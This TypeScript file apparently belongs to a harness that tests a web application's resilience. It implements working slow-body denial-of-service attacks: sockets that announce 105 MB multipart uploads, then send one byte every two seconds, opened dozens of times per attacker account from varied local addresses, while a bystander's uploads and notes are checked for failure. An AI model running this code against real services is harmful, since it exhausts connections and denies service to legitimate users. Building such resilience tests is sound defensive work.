// Bodies and forms whose bytes come slowly.

import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import sharp from 'sharp';
import { written } from './client.ts';
import { makeNote, type Attack, type Outcome, type Raid } from './raid.ts';

interface OpenForm {
  path: string;
  type: string;
  bytes: number;
  /** How many of them come at once, before the waiting begins. */
  first: number;
  cookie?: string;
  /** What the body begins with. */
  start?: string;
  /** Where it comes from. */
  address?: string;
}

/** Sends most of a body, then a byte every two seconds for as long as it is let. */
export async function hold(raid: Raid, form: OpenForm): Promise<void> {
  const { path, type, bytes, first, cookie, start = '', address = '127.0.66.1' } = form;
  const { hostname, port } = new URL(raid.url);
  const socket: Socket = connect({
    host: hostname,
    port: Number(port),
    localAddress: address,
  });
  let isOpen = true;
  socket.on('error', () => {});
  socket.on('close', () => {
    isOpen = false;
  });
  socket.on('data', (answer: Buffer) => {
    const status = /^HTTP\/1.1 (\d+)/.exec(answer.toString('latin1'))?.[1];
    if (status !== undefined) raid.counts.set(status, (raid.counts.get(status) ?? 0) + 1);
  });
  socket.write(
    `PUT ${path} HTTP/1.1\r\nHost: ${hostname}\r\nOrigin: ${new URL(raid.url).origin}\r\n` +
      `Content-Type: ${type}\r\nContent-Length: ${bytes}\r\n` +
      `${cookie === undefined ? '' : `Cookie: ${cookie}\r\n`}\r\n`,
  );
  socket.write(start);
  socket.write(Buffer.alloc(first));
  while (isOpen && Date.now() < raid.until) {
    await pause(2000);
    if (isOpen) socket.write('a');
  }
  socket.destroy();
}

const FORM_START =
  '--x\r\nContent-Disposition: form-data; name="images"; filename="a.jpg"\r\n' +
  'Content-Type: image/jpeg\r\n\r\n';

/** Two forms of each account, from a network of its own. */
async function slowForms(raid: Raid): Promise<Outcome> {
  const holding = [...raid.attackers, ...raid.attackers].map(({ cookie }, n) =>
    hold(raid, {
      path: '/api/user/note/create',
      type: 'multipart/form-data; boundary=x',
      bytes: 105_000_000,
      first: 17_000,
      start: FORM_START,
      address: `127.0.${100 + (n % raid.attackers.length)}.1`,
      cookie,
    }),
  );
  const picture = await sharp({
    create: { width: 800, height: 600, channels: 3, background: '#41c98b' },
  })
    .jpeg()
    .toBuffer();
  const own = { tried: 0, failed: 0 };
  while (Date.now() < raid.until - 2000) {
    await pause(Math.max(500, (raid.seconds * 1000) / 12));
    own.tried += 1;
    const { status } = await raid.ask(raid.client(9), {
      method: 'PUT',
      path: '/api/user/img',
      headers: { ...written(raid.url, raid.bystander.cookie), 'content-type': 'image/jpeg' },
      body: picture,
      patience: 8000,
    });
    if (status !== 200) own.failed += 1;
  }
  await Promise.all(holding);
  return {
    said: `${own.failed} of ${own.tried} pictures of somebody else failed`,
    isHarm: own.failed > 0,
  };
}

const TEXT_START = '--x\r\nContent-Disposition: form-data; name="content"\r\n\r\n';

/** Eight forms of each account, from a network of its own: all slots for long texts. */
async function slowTextForms(raid: Raid): Promise<Outcome> {
  const holding = Array.from({ length: 8 }).flatMap(() =>
    raid.attackers.map(({ cookie }, n) =>
      hold(raid, {
        path: '/api/user/note/create',
        type: 'multipart/form-data; boundary=x',
        bytes: 105_000_000,
        first: 17_000,
        start: TEXT_START,
        address: `127.0.${100 + n}.1`,
        cookie,
      }),
    ),
  );
  const own = { tried: 0, failed: 0 };
  while (own.tried < 4 && Date.now() < raid.until - 2000) {
    await pause(Math.max(3000, (raid.seconds * 1000) / 6));
    own.tried += 1;
    const note = await makeNote(
      raid,
      raid.bystander,
      `Озын ${own.tried}`,
      'Озын язма. '.repeat(1500),
    );
    if (note === null) own.failed += 1;
  }
  await Promise.all(holding);
  return {
    said: `${own.failed} of ${own.tried} long notes of somebody else failed`,
    isHarm: own.failed > 0,
  };
}

export const forms: Record<string, Attack> = {
  'slow forms': {
    about: '32 forms with a picture that does not come to its end, of 16 people and networks',
    run: slowForms,
  },
  'slow text forms': {
    about: '128 forms whose text does not come to its end, of 16 people and networks',
    run: slowTextForms,
  },
};
